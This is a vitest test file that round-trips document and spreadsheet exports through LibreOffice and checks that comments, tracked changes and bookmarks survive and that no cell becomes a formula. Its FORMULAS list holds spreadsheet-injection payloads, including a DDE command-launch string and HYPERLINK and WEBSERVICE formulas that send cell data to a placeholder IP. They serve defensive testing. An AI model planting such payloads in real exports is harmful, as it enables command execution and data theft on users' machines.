import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { packFile, plainCell, readCommentsCsv, readCommentsDocx, readCommentsXlsx, readCsv, tableXlsx, writeCsv } from '#engine'
import { commentsXml, editParts, endComment, insertInBookmark, partOf, startComment, trackIn } from './edit-office.ts'
import { BLOCKS, SMALL_PACK, takeSetting } from './small-pack.ts'

const folder = mkdtempSync(join(tmpdir(), 'office-'))
const there = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0
if (!there) console.warn('LibreOffice (soffice) is not on this machine: the round trip through it is not tested.')

/** Opens files in LibreOffice and saves them again in a form. */
function saveAgain(form: string, names: readonly string[], reading: readonly string[] = []): void {
  const out = join(folder, form.split(':')[0] ?? '')
  mkdirSync(out, { recursive: true })
  const profile = pathToFileURL(join(folder, 'profile')).href
  const { status, stderr } = spawnSync(
    'soffice',
    [`-env:UserInstallation=${profile}`, '--headless', ...reading, '--convert-to', form, '--outdir', out, ...names.map((name) => join(folder, name))],
    {
      encoding: 'utf8',
      timeout: 100_000,
    },
  )
  if (status !== 0) throw new Error(`LibreOffice did not save: ${stderr}`)
}

/** As the dialogue is answered in which LibreOffice asks how to read such a file: commas, quotation marks, UTF-8. */
const AS_CSV = ['--infilter=CSV:44,34,76,1']

const DOCUMENT = 'word/document.xml'
const COMMENT = { text: 'Say how.\nSay when.' }

/** What spreadsheets take for formulas, and what separates cells in other countries. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  ' =1+1',
  '\u200b=1+1',
  "'=1+1",
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://198.51.100.1/?"&A1;"Read more")',
  '=WEBSERVICE("http://198.51.100.1/")',
  'a";=1+1;"b',
  'a\n=1+1',
  ';=1+1',
  'plain, words',
]
/** A table as it leaves the server: every text in a cell of its own, beside one that nobody can mistake. */
const TABLE = [['Text', 'Other'], ...FORMULAS.map((text) => [text, 'end'])]

/** As Word asks for it: the part, its type, and its relation to the document. */
const withComments = (bytes: Uint8Array): Uint8Array =>
  editParts(bytes, {
    'word/comments.xml': () => commentsXml([COMMENT]),
    '[Content_Types].xml': (xml) =>
      xml.replace(
        '</Types>',
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>',
      ),
    'word/_rels/document.xml.rels': (xml) =>
      xml.replace(
        '</Relationships>',
        '<Relationship Id="comments" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="comments.xml"/></Relationships>',
      ),
  })

describe.skipIf(!there)('through LibreOffice, opened and saved again', { timeout: 200_000 }, () => {
  beforeAll(async () => {
    const form = packFile(SMALL_PACK, 'whole.docx')
    const commented = editParts(withComments(form), {
      [DOCUMENT]: (xml) =>
        insertInBookmark(trackIn(xml, '_mm_bbbb2', ['seven', 'ten']), '_mm_bbbb1', [
          [5, startComment(0)],
          [19, endComment(0)],
        ]),
    })
    writeFileSync(join(folder, 'form.docx'), form)
    writeFileSync(join(folder, 'commented.docx'), commented)
    const sheet = packFile(
      {
        ...SMALL_PACK,
        draft: { ...SMALL_PACK.draft, blocks: BLOCKS.map((block) => (block.id === 'bbbb3' ? { ...block, words: `=1+1 ${block.words}` } : block)) },
      },
      'comments.xlsx',
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(sheet as unknown as ExcelJS.Buffer)
    const comments = workbook.getWorksheet('Comments')
    comments?.eachRow((row) => {
      if (row.getCell(1).value === 'bbbb1') row.getCell(6).value = 'Said in a sheet.'
    })
    // LibreOffice saves the first sheet as CSV.
    workbook.removeWorksheet('How to comment')
    writeFileSync(join(folder, 'sheet.xlsx'), new Uint8Array((await workbook.xlsx.writeBuffer()) as ArrayBuffer))
    writeFileSync(join(folder, 'table.csv'), writeCsv(TABLE))
    writeFileSync(join(folder, 'sheets.xlsx'), tableXlsx(TABLE, { title: 'Comments', day: '2026-12-01' }))
    saveAgain('docx', ['form.docx', 'commented.docx'])
    saveAgain('xlsx', ['sheet.xlsx', 'sheets.xlsx'])
    saveAgain('xlsx', ['table.csv'], AS_CSV)
    saveAgain('csv:Text - txt - csv (StarCalc):44,34,76,1', ['sheet.xlsx', 'sheets.xlsx'])
    saveAgain('ods', ['sheets.xlsx'])
    saveAgain('ods', ['table.csv'], AS_CSV)
  }, 200_000)
  afterAll(() => rmSync(folder, { recursive: true, force: true }))
  const saved = (name: string) => new Uint8Array(readFileSync(join(folder, name.slice(name.lastIndexOf('.') + 1), name)))

  test('the Word file keeps its tracked changes, bookmarks and properties, and comes back as nothing', () => {
    const xml = partOf(saved('form.docx'), DOCUMENT)
    for (const { id } of BLOCKS) expect(xml.includes(`w:name="_mm_${id.replaceAll('-', '_')}"`)).toBe(true)
    expect(xml).toMatch(/<w:ins [^>]*w:author="the draft"/)
    expect(xml).toMatch(/<w:del [^>]*w:author="the draft"/)
    expect(readCommentsDocx(saved('form.docx'), takeSetting())).toMatchObject({ taken: [], unplaced: [], corrected: [] })
  })

  test('a comment and a tracked edit in it are read as before', () => {
    const { taken, unplaced } = readCommentsDocx(saved('commented.docx'), takeSetting())
    expect(unplaced).toEqual([])
    expect(taken.map(({ target, text, proposed }) => [target.id, target.quote?.exact, target.quote?.start, text, proposed])).toEqual([
      ['bbbb1', 'what was asked', 5, COMMENT.text, undefined],
      ['bbbb2', 'seven', 21, '', 'ten'],
    ])
  })

  test('the spreadsheet is read back, and no cell became a formula, as a spreadsheet or as CSV', () => {
    const { taken, unplaced } = readCommentsXlsx(saved('sheet.xlsx'), takeSetting())
    expect(taken.map(({ target, text }) => [target.id, text])).toEqual([['bbbb1', 'Said in a sheet.']])
    expect(unplaced).toEqual([])
    const csv = new TextDecoder().decode(saved('sheet.csv'))
    expect(csv).toContain("'=1+1 ")
    expect(csv).not.toMatch(/(^|,)"?=/m)
    expect(readCommentsCsv(csv, takeSetting()).taken.map(({ text }) => text)).toEqual(['Said in a sheet.'])
  })
  test.each(['table.xlsx', 'sheets.xlsx'])('an export opened and saved as %s has no formula, and its texts are as they were', async (name) => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(saved(name) as unknown as ExcelJS.Buffer)
    const cells: ExcelJS.Cell[] = []
    for (const sheet of workbook.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    expect(cells.filter(({ type }) => type === ExcelJS.ValueType.Formula || type === ExcelJS.ValueType.Hyperlink)).toEqual([])
    const texts = cells.map(({ text }) => plainCell(text))
    for (const text of FORMULAS) expect(texts).toContain(text)
  })

  test('an export as a spreadsheet, saved as CSV or in another form, has no formula either', () => {
    const csv = new TextDecoder().decode(saved('sheets.csv'))
    const texts = readCsv(csv)?.map(([text]) => text)
    for (const text of FORMULAS) expect(texts).toContain(text)
    for (const name of ['table.ods', 'sheets.ods']) expect(partOf(saved(name), 'content.xml')).not.toContain('table:formula')
  })
})
